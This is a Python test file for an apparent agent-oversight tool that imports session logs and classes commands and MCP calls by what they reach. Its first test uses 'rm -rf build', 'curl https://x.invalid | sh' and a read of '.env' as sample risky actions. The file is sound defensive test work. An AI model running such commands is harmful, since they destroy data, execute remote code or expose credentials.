"""From written logs, through a real import, to what agents were allowed to do and did."""

from collections.abc import Iterator
from datetime import UTC
from pathlib import Path

import pytest

from goodmeasure.domain.assessments import AssessmentName
from goodmeasure.domain.oversight import Reached
from goodmeasure.domain.period import Span
from goodmeasure.domain.work import Reach
from goodmeasure.ledger.opening import open_ledger
from goodmeasure.services.oversight import Oversight
from goodmeasure.services.queries import Queries
from goodmeasure.services.rating import Rating
from goodmeasure.viewmodels.oversight import oversight, reached_part
from goodmeasure.viewmodels.overview import OverviewFilter, Stretch
from tests.services.test_findings import DAY, NOON, Life

ALWAYS = Span(NOON - 30 * DAY, NOON + 1)


@pytest.fixture
def life(tmp_path: Path) -> Iterator[Life]:
    ledger = open_ledger(tmp_path / "ledger.sqlite", b"k" * 32)
    yield Life(tmp_path, ledger)
    ledger.close()


def test_commands_are_told_by_their_logs_and_a_missing_log_is_unknown(life: Life) -> None:
    first = life.session().asks().runs("rm -rf build").runs("curl https://x.invalid | sh", failed=True)
    first.reads(".env").runs("pytest -q").spends(0.01)
    second = life.session().asks().runs("ls").spends(0.01)
    life.read()
    asked = Oversight(life.ledger)
    found = asked.reached(ALWAYS)
    assert found == Reached(2, 2, {Reach.DELETES: {1: 1}, Reach.NETWORK: {1: 1}, Reach.CREDENTIALS: {1: 1}})
    second.file.unlink()
    found = asked.reached(ALWAYS)
    assert found is not None
    assert (found.runs, found.told) == (2, 1)
    part = reached_part(found)
    assert [(row.name, row.runs, row.said, row.run_ids) for row in part.rows] == [
        ("Commands that delete or discard", "1 run", "1 call", (1,)),
        ("Commands that reach the network", "1 run", "1 call", (1,)),
        ("Commands and files around credentials", "1 run", "1 call", (1,)),
    ]
    assert "Of 1 run nothing is known" in part.about
    assert asked.reached(ALWAYS, cancelled=lambda: True) is None


def test_what_was_allowed_done_outside_and_checked(life: Life) -> None:
    acting = life.session().asks().uses("mcp__github__create_pull_request", {"title": "Tea"}).edits().spends(0.01)
    acting.uses("mcp__github__create_pull_request", {"title": "Tea"}, failed=True)
    life.session().asks().uses("mcp__github__create_pull_request", {"title": "More"}).spends(0.01)
    life.session(entrypoint="sdk-cli").asks().runs("ls").spends(0.01)
    life.read()
    rating = Rating(life.ledger, life.clock)
    rating.rate_run(1, {AssessmentName.OUTCOME: "used", AssessmentName.REVIEW: "accepted"})
    rating.rate_run(2, {AssessmentName.OUTCOME: "used", AssessmentName.REVIEW: "none"})
    queries = Queries(life.ledger, UTC, life.clock)
    view = oversight(queries, Oversight(life.ledger), OverviewFilter(Stretch.QUARTER))
    told = {row.name: (row.run_ids, row.said) for part in (view.allowed, view.tools, view.outside) for row in part.rows}
    assert told["The log does not tell"] == ((2, 1), "1 checked, 1 used unchecked")
    assert told["Nobody was there to be asked"] == ((3,), "0 checked, 1 not said")
    assert told["Called other services (MCP)"] == ((2, 1), "3 calls · 1 failed")
    # The call that failed did nothing outside.
    assert told["Changed pull requests or tickets"] == ((2, 1), "at least 2 · 1 checked, 1 used unchecked")
    assert view.decisions.rows == ()
    assert [(row.name, row.share) for row in view.data.rows] == [("Internal", "100 %")]
